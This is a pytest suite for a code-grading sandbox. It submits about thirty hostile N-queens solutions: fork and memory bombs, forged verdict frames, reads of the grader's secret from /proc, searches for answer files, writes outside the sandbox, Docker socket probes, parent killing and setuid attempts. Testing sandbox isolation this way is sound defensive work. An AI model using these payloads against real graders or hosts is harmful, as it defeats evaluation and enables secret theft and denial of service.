@@ -1,0 +1,498 @@
+"""The hostile suite: submissions that attack the judge or the host, on every backend.
+
+Each case names its expected verdict. Most attacks end in `return queens(n)` (the right
+answer) only when the attack failed, so AC proves the sandbox held and WA would show it did
+not. After every case the host is checked the same way: no process of the run is left, no
+file appeared outside the sandbox, the grader's secret is in no report, nothing reached a
+listener on 127.0.0.1, a planted link changed no host file, and the next submission of the
+batch is still accepted. Some cases check more (see `extra`).
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+import os
+import secrets
+import socket
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from grader.judge import grade
+from grader.problem import Problem
+from grader.reports import REPORTERS
+from grader.results import Report, SandboxInfo
+from grader.verdicts import Verdict
+
+from ..conftest import ROOT
+
+SECRET_VARIABLE = "GRADER_HOSTILE_SECRET"
+
+# The right answer, by brute force: what an attack returns when it failed.
+QUEENS = """
+from itertools import permutations
+def queens(n):
+    return [list(p) for p in permutations(range(n))
+            if len({r + c for r, c in enumerate(p)}) == n
+            and len({r - c for r, c in enumerate(p)}) == n]
+"""
+
+
+@dataclass(frozen=True)
+class Case:
+    name: str
+    verdict: Verdict
+    source: str  # @TOKEN@, @PORT@, @ROOT@, @SENTINEL@, @SECRET@ are filled in per run
+    extra: str = ""  # a further host check: "sentinel", "listener"
+
+
+CASES = [
+    Case("busy loop", Verdict.TLE, "def solve_n_queens(n):\n    while True:\n        pass\n"),
+    Case("sleep", Verdict.TLE, "import time\ndef solve_n_queens(n):\n    time.sleep(10**6)\n"),
+    Case(
+        "SIGTERM ignored",
+        Verdict.TLE,
+        "import signal\n"
+        "for name in ('SIGTERM', 'SIGINT', 'SIGHUP', 'SIGXCPU'):\n"
+        "    signal.signal(getattr(signal, name), signal.SIG_IGN)\n"
+        "def solve_n_queens(n):\n    while True:\n        pass\n",
+    ),
+    Case(
+        "raising its own rlimits",
+        Verdict.AC,
+        QUEENS + "import resource\n"
+        "def solve_n_queens(n):\n"
+        "    raised = 0\n"
+        "    for name in ('RLIMIT_CPU', 'RLIMIT_AS', 'RLIMIT_NPROC', 'RLIMIT_FSIZE',\n"
+        "                 'RLIMIT_NOFILE', 'RLIMIT_DATA'):\n"
+        "        limit = getattr(resource, name)\n"
+        "        if resource.getrlimit(limit)[1] == resource.RLIM_INFINITY:\n"
+        "            continue\n"
+        "        try:\n"
+        "            resource.setrlimit(limit, (resource.RLIM_INFINITY,) * 2)\n"
+        "            raised += 1\n"
+        "        except (ValueError, OSError):\n"
+        "            pass\n"
+        "    return [] if raised else queens(n)\n",
+    ),
+    Case(
+        "patched clocks",
+        Verdict.TLE,
+        "import time\n"
+        "time.time = time.monotonic = time.perf_counter = time.process_time = lambda: 0.0\n"
+        "def solve_n_queens(n):\n    while True:\n        pass\n",
+    ),
+    Case(
+        "memory bomb",
+        Verdict.MLE,
+        "def solve_n_queens(n):\n"
+        "    blocks = []\n"
+        "    while True:\n"
+        "        blocks.append(b'x' * (8 * 2**20))\n",
+    ),
+    Case(
+        "fork bomb",
+        Verdict.AC,
+        QUEENS + "import os, time\n"
+        "def solve_n_queens(n):\n"
+        "    children = 0\n"
+        "    try:\n"
+        "        while children < 5000:\n"
+        "            if os.fork() == 0:\n"
+        "                while True:\n"
+        "                    time.sleep(1)\n"
+        "            children += 1\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "    return queens(n) if children < 1000 else []\n",
+    ),
+    Case(
+        "thread bomb",
+        Verdict.AC,
+        QUEENS + "import threading, time\n"
+        "def solve_n_queens(n):\n"
+        "    started = 0\n"
+        "    try:\n"
+        "        while started < 5000:\n"
+        "            threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()\n"
+        "            started += 1\n"
+        "    except (RuntimeError, OSError):\n"
+        "        pass\n"
+        "    return queens(n) if started < 1000 else []\n",
+    ),
+    Case(
+        "stdout flood",
+        Verdict.OLE,
+        "def solve_n_queens(n):\n    while True:\n        print('x' * 4096)\n",
+    ),
+    Case(
+        "stderr flood",
+        Verdict.OLE,
+        "import sys\ndef solve_n_queens(n):\n    while True:\n        sys.stderr.write('x' * 4096)\n",
+    ),
+    Case(
+        "huge return value",
+        Verdict.OLE,
+        "def solve_n_queens(n):\n    return [[0]] * 10**7\n",
+    ),
+    Case(
+        "deeply nested return value",
+        Verdict.WA,
+        "def solve_n_queens(n):\n"
+        "    value = []\n"
+        "    for _ in range(10**6):\n"
+        "        value = [value]\n"
+        "    return value\n",
+    ),
+    Case(
+        "list subclass whose __eq__ lies",
+        Verdict.WA,
+        "class Liar(list):\n"
+        "    def __eq__(self, other):\n        return True\n"
+        "    def __hash__(self):\n        return 0\n"
+        "def solve_n_queens(n):\n    return [Liar([0] * n)]\n",
+    ),
+    Case(
+        "bools as columns",
+        Verdict.WA,
+        QUEENS + "def solve_n_queens(n):\n"
+        "    return [[bool(c) if c < 2 else c for c in p] for p in queens(n)]\n",
+    ),
+    Case(
+        "forged frame on stdout",
+        Verdict.WA,
+        QUEENS + "import sys, json\n"
+        "def solve_n_queens(n):\n"
+        "    body = json.dumps({'kind': 'value', 'value': queens(n)}).encode()\n"
+        "    sys.stdout.buffer.write(len(body).to_bytes(4, 'big') + body)\n"
+        "    sys.stdout.flush()\n"
+        "    return []\n",
+    ),
+    Case(
+        "forged verdict frames on every descriptor",
+        Verdict.RTE,
+        QUEENS + "import os, json\n"
+        "def solve_n_queens(n):\n"
+        "    body = json.dumps({'kind': 'value', 'value': queens(n), 'verdict': 'AC',\n"
+        "                       'score': 100, 'time': 0}).encode()\n"
+        "    for fd in range(0, 1024):\n"
+        "        try:\n"
+        "            os.write(fd, len(body).to_bytes(4, 'big') + body)\n"
+        "        except OSError:\n"
+        "            pass\n"
+        "    return queens(n)\n",
+    ),
+    Case(
+        "reading the grader's environment",
+        Verdict.AC,
+        QUEENS + "import os\n"
+        "def solve_n_queens(n):\n"
+        "    seen = str(dict(os.environ))\n"
+        "    for pid in ('self', '1', str(os.getppid())):\n"
+        "        try:\n"
+        "            with open(f'/proc/{pid}/environ', 'rb') as handle:\n"
+        "                seen += handle.read().decode('latin-1')\n"
+        "        except OSError:\n"
+        "            pass\n"
+        "    print(seen)\n"
+        "    return [] if '@SECRET@' in seen else queens(n)\n",
+    ),
+    Case(
+        "importing the grader",
+        Verdict.AC,
+        QUEENS + "import sys\n"
+        "def solve_n_queens(n):\n"
+        "    sys.path[:0] = ['@ROOT@', '@ROOT@/.venv/lib/python3.11/site-packages']\n"
+        "    try:\n"
+        "        import grader\n"
+        "    except ImportError:\n"
+        "        return queens(n)\n"
+        "    return []\n",
+    ),
+    Case(
+        "searching the disk for problems and references",
+        Verdict.AC,
+        QUEENS + "import os\n"
+        "WANTED = {'problem.yaml', 'row_scan.py', 'bitmask.py', 'n9.json', 'statement.md'}\n"
+        "def solve_n_queens(n):\n"
+        "    for path in ('@ROOT@/problems/nqueens/answers/n9.json',\n"
+        "                 '@ROOT@/reference/nqueens/bitmask.py'):\n"
+        "        try:\n"
+        "            open(path).read()\n"
+        "            return []\n"
+        "        except OSError:\n"
+        "            pass\n"
+        "    for top, dirs, files in os.walk('/'):\n"
+        "        dirs[:] = [d for d in dirs if os.path.join(top, d) not in\n"
+        "                   ('/proc', '/sys', '/dev', '/usr')]\n"
+        "        if WANTED & set(files):\n"
+        "            return []\n"
+        "    return queens(n)\n",
+    ),
+    Case(
+        "reading a file of the host",
+        Verdict.AC,
+        QUEENS + "def solve_n_queens(n):\n"
+        "    try:\n"
+        "        print(open('@SENTINEL@').read())\n"
+        "        return []\n"
+        "    except OSError:\n"
+        "        return queens(n)\n",
+        extra="sentinel",
+    ),
+    Case(
+        "writing files outside the work dir",
+        Verdict.AC,
+        QUEENS + "import os\n"
+        "def solve_n_queens(n):\n"
+        "    wrote = 0\n"
+        "    for folder in ('@ROOT@', '/tmp', '/', '/usr', '/etc', os.path.expanduser('~'),\n"
+        "                   os.path.dirname('@SENTINEL@')):\n"
+        "        try:\n"
+        "            with open(os.path.join(folder, 'pwned-@TOKEN@'), 'w') as handle:\n"
+        "                handle.write('pwned')\n"
+        "            wrote += folder != '/tmp'  # /tmp is the sandbox's own tmpfs\n"
+        "        except OSError:\n"
+        "            pass\n"
+        "    try:\n"
+        "        with open('@SENTINEL@', 'w') as handle:\n"
+        "            handle.write('pwned')\n"
+        "        wrote += 1\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "    return [] if wrote else queens(n)\n",
+        extra="sentinel",
+    ),
+    Case(
+        "connecting to a listener on 127.0.0.1",
+        Verdict.AC,
+        QUEENS + "import socket\n"
+        "def solve_n_queens(n):\n"
+        "    try:\n"
+        "        with socket.create_connection(('127.0.0.1', @PORT@), timeout=1) as s:\n"
+        "            s.sendall(b'leaked @TOKEN@')\n"
+        "        return []\n"
+        "    except OSError:\n"
+        "        return queens(n)\n",
+        extra="listener",
+    ),
+    Case(
+        "reaching the Docker engine",
+        Verdict.AC,
+        QUEENS + "import socket\n"
+        "def solve_n_queens(n):\n"
+        "    for path in ('/var/run/docker.sock', '/run/docker.sock'):\n"
+        "        try:\n"
+        "            s = socket.socket(socket.AF_UNIX)\n"
+        "            s.connect(path)\n"
+        "            return []\n"
+        "        except OSError:\n"
+        "            pass\n"
+        "    return queens(n)\n",
+    ),
+    Case(
+        "killing the parent and its process group",
+        Verdict.AC,
+        QUEENS + "import os, signal\n"
+        "def solve_n_queens(n):\n"
+        "    parent = os.getppid()\n"
+        "    for attempt in (lambda: os.kill(parent, signal.SIGKILL),\n"
+        "                    lambda: os.killpg(os.getpgid(parent), signal.SIGKILL),\n"
+        "                    lambda: os.kill(-1, signal.SIGKILL)):\n"
+        "        try:\n"
+        "            attempt()\n"
+        "        except (OSError, ValueError):\n"
+        "            pass\n"
+        "    return queens(n)\n",
+    ),
+    Case(
+        "double-fork daemon",
+        Verdict.AC,
+        QUEENS + "import os, time\n"
+        "def solve_n_queens(n):\n"
+        "    if os.fork() == 0:\n"
+        "        os.setsid()\n"
+        "        if os.fork() == 0:\n"
+        "            while True:\n"
+        "                time.sleep(1)\n"
+        "        os._exit(0)\n"
+        "    os.wait()\n"
+        "    return queens(n)\n",
+    ),
+    Case(
+        "a symlink to a host file left in the work dir",
+        Verdict.AC,
+        QUEENS + "import os\n"
+        "def solve_n_queens(n):\n"
+        "    for name in ('channel', 'output', 'result.json', 'answers', 'core', 'pwned'):\n"
+        "        try:\n"
+        "            os.symlink('@SENTINEL@', name)\n"
+        "        except OSError:\n"
+        "            pass\n"
+        "    return queens(n)\n",
+        extra="sentinel",
+    ),
+    Case(
+        "closing descriptors 0 to 2",
+        Verdict.AC,
+        "import os\nos.close(0); os.close(1); os.close(2)\n"
+        + QUEENS
+        + "def solve_n_queens(n):\n    print('lost')\n    return queens(n)\n",
+    ),
+    Case(
+        "exhausting file descriptors",
+        Verdict.AC,
+        QUEENS + "held = []\n"
+        "def solve_n_queens(n):\n"
+        "    try:\n"
+        "        while len(held) < 100000:\n"
+        "            held.append(open('/dev/null'))\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "    return queens(n) if len(held) < 1000 else []\n",
+    ),
+    Case("os._exit(0) at import", Verdict.RTE, "import os\nos._exit(0)\n"),
+    Case("SystemExit at import", Verdict.CE, "raise SystemExit(0)\n"),
+    Case(
+        "C stack crash",
+        Verdict.RTE,
+        "import sys\nsys.setrecursionlimit(10**9)\n"
+        "def dive(depth):\n    return eval('dive(depth + 1)')\n"
+        "def solve_n_queens(n):\n    return dive(0)\n",
+    ),
+    Case(
+        "disk fill",
+        Verdict.AC,
+        QUEENS + "def solve_n_queens(n):\n"
+        "    written = 0\n"
+        "    try:\n"
+        "        for index in range(4096):\n"
+        "            with open(f'fill-{n}-{index}', 'wb') as handle:\n"
+        "                for _ in range(64):\n"
+        "                    handle.write(b'x' * 65536)\n"
+        "                    written += 65536\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "    return queens(n) if written < 64 * 2**20 else []\n",
+    ),
+    Case(
+        "snooping on other processes",
+        Verdict.AC,
+        QUEENS + "import os\n"
+        "def solve_n_queens(n):\n"
+        "    pids = [name for name in os.listdir('/proc') if name.isdigit()]\n"
+        "    return queens(n) if len(pids) < 5 else []\n",
+    ),
+    Case(
+        "becoming root",
+        Verdict.AC,
+        QUEENS + "import os\n"
+        "def solve_n_queens(n):\n"
+        "    if os.getuid() == 0 or os.geteuid() == 0:\n"
+        "        return []\n"
+        "    try:\n"
+        "        os.setuid(0)\n"
+        "        return []\n"
+        "    except OSError:\n"
+        "        return queens(n)\n",
+    ),
+]
+
+ACCEPTED = QUEENS + "def solve_n_queens(n):\n    return queens(n)\n"
+
+
+@pytest.fixture(scope="module")
+def small_nqueens(nqueens: Problem) -> Problem:
+    """The real problem, three of its tests (a sample, another sample, a hidden one)."""
+    kept = tuple(test for test in nqueens.tests if test.name in ("n1", "n4", "n6"))
+    return dataclasses.replace(nqueens, tests=kept)
+
+
+@pytest.fixture
+def listener() -> Iterator[socket.socket]:
+    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    server.bind(("127.0.0.1", 0))
+    server.listen(8)
+    server.setblocking(False)
+    yield server
+    server.close()
+
+
+def test_the_suite_is_large_enough() -> None:
+    assert len(CASES) >= 30
+    assert len({case.name for case in CASES}) == len(CASES)
+
+
+@pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])
+def test_hostile_submission(
+    case: Case,
+    sandbox,
+    small_nqueens: Problem,
+    nqueens_answers,
+    make_submission,
+    listener: socket.socket,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    token = secrets.token_hex(6)
+    secret = f"hunter2-{token}"
+    monkeypatch.setenv(SECRET_VARIABLE, secret)
+    sentinel = tmp_path / "host-secret.txt"
+    sentinel.write_text(f"host file {token}\n")
+    sentinel.chmod(0o644)
+    source = (
+        case.source.replace("@TOKEN@", token)
+        .replace("@PORT@", str(listener.getsockname()[1]))
+        .replace("@ROOT@", str(ROOT))
+        .replace("@SENTINEL@", str(sentinel))
+        .replace("@SECRET@", secret)
+    )
+    # The token in the file name is in every process of the run's command line.
+    submission = make_submission(source, f"hostile_{token}.py")
+
+    result = grade(small_nqueens, nqueens_answers, submission, sandbox, reveal_hidden=True)
+    report = REPORTERS["json"](
+        Report("nqueens", "", SandboxInfo(sandbox.name, sandbox.protections()), (result,)),
+        False,
+    )
+    details = json.dumps(json.loads(report)["results"][0]["tests"], indent=1)[:3000]
+    assert result.verdict is case.verdict, details
+    assert secret not in report
+    assert str(ROOT / "grader") not in report  # no traceback of the harness's own code
+
+    assert _processes_with(token) == [], "a process of the run outlived it"
+    for folder in (ROOT, Path("/tmp"), Path("/"), Path.home(), tmp_path):
+        assert not (folder / f"pwned-{token}").exists(), folder
+    if case.extra == "sentinel":
+        assert sentinel.read_text() == f"host file {token}\n"
+        assert not sentinel.is_symlink()
+    if case.extra == "listener":
+        with pytest.raises(BlockingIOError):
+            listener.accept()
+
+    follower = make_submission(ACCEPTED, "next_in_batch.py")
+    after = grade(small_nqueens, nqueens_answers, follower, sandbox)
+    assert after.verdict is Verdict.AC, after
+
+
+def _processes_with(token: str, wait_s: float = 5.0) -> list[int]:
+    """Pids whose command line holds `token`, after giving a killed run a moment to go."""
+    deadline = time.monotonic() + wait_s
+    while True:
+        found = []
+        for entry in os.listdir("/proc"):
+            if not entry.isdigit():
+                continue
+            try:
+                with open(f"/proc/{entry}/cmdline", "rb") as handle:
+                    if token.encode() in handle.read():
+                        found.append(int(entry))
+            except OSError:
+                continue
+        if not found or time.monotonic() > deadline:
+            return found
+        time.sleep(0.05)
